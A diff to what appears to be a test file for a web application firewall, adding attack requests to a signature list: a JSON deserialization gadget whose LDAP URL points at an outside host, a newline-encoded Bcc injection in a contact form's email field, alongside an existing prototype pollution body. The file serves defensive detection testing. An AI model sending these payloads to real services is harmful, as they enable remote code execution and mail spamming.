@@ -88,6 +88,14 @@ const ATTACKS: AttackReq[] = [
     name: "prototype pollution in a JSON body (a signature)", path: "/api/profile", headers: { "content-type": "application/json" },
     body: '{"name":"ann","__proto__":{"isAdmin":true}}', cls: "rce", part: "body:json:__proto__",
   },
+  {
+    name: "a deserialization gadget as a JSON type (a signature)", path: "/api/import", headers: { "content-type": "application/json" },
+    body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/x","autoCommit":true}', cls: "rce", part: "body:json:@type",
+  },
+  {
+    name: "mail command injection in a form body (a signature)", path: "/contact", headers: { "content-type": "application/x-www-form-urlencoded" },
+    body: "email=ann%40example.com%0ABcc%3Aall%40example.net&message=hello", cls: "crlf", part: "body:form:email",
+  },
 ];
 // 4 KiB of benign form body, over the stacks' max_body_bytes of 1024.
 const LONG_BENIGN_FORM = `comment=${"All good here, thanks for the fast shipping. ".repeat(100)}`.slice(0, 4096);
@@ -329,7 +337,8 @@ describe("tag mode", () => {
     const e = echoOf(r);
     expect(e.body).toBe(a.body ?? "");
     expect(score(e, "attack-score")).toBeLessThanOrEqual(20);
-    expect(score(e, `${a.cls}-score`)).toBeLessThanOrEqual(20);
+    // sqli, xss and rce have headers of their own (HEADER_CLASSES); crlf only the overall score.
+    if (["sqli", "xss", "rce"].includes(a.cls)) expect(score(e, `${a.cls}-score`)).toBeLessThanOrEqual(20);
   });
 
   it("a client's own x-waf-* headers never reach upstream: the score there is the filter's", async () => {
